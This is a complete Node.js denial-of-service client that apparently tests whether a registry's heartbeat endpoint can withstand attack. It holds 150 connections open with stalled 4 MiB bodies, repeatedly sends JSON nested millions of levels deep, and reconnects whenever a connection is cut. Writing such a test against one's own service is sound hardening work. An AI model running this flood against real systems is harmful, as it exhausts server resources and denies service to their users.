// A client that means ill: node attacker.mjs URL SECONDS [TOKEN]. On 150 connections it begins a body of 4 MiB and stalls near its
// end, on 8 it sends whole ones that are nested as deeply as they are long, one after another; and begins again when it is cut off.
import { connect } from 'node:net';

const [url, seconds, token] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const BYTES = 4 * 1024 * 1024;
const STALLS_BEFORE_END = 70 * 1024;
const PAUSE_MS = 100;
const head = [
  'POST /agents/heartbeats HTTP/1.1',
  'Host: registry',
  'Content-Type: application/json',
  `Content-Length: ${BYTES}`,
  ...(token ? [`Authorization: Bearer ${token}`] : []),
];
const HEAD = Buffer.from(`${head.join('\r\n')}\r\n\r\n`);
const STALLING = Buffer.concat([HEAD, Buffer.alloc(BYTES - STALLS_BEFORE_END, '[')]);
const DEEP = Buffer.concat([HEAD, Buffer.alloc(BYTES / 2, '['), Buffer.alloc(BYTES / 2, ']')]);

/** Answers, by their status. */
const answers = {};

for (let n = 0; n < 150; n++) attack(STALLING, false);
for (let n = 0; n < 8; n++) attack(DEEP, true);
setTimeout(
  () => {
    console.log(JSON.stringify(answers));
    process.exit(0);
  },
  Number(seconds) * 1000,
);

function attack(bytes, repeats) {
  const socket = connect(Number(port), hostname, () => socket.write(bytes));
  socket.on('data', (data) => {
    const status = /^HTTP\/1\.1 (\d{3})/.exec(data.toString('latin1'))?.[1];
    if (!status) return;
    answers[status] = (answers[status] ?? 0) + 1;
    if (repeats) socket.write(bytes);
  });
  socket.on('error', () => undefined);
  socket.on('close', () => setTimeout(() => attack(bytes, repeats), PAUSE_MS));
}
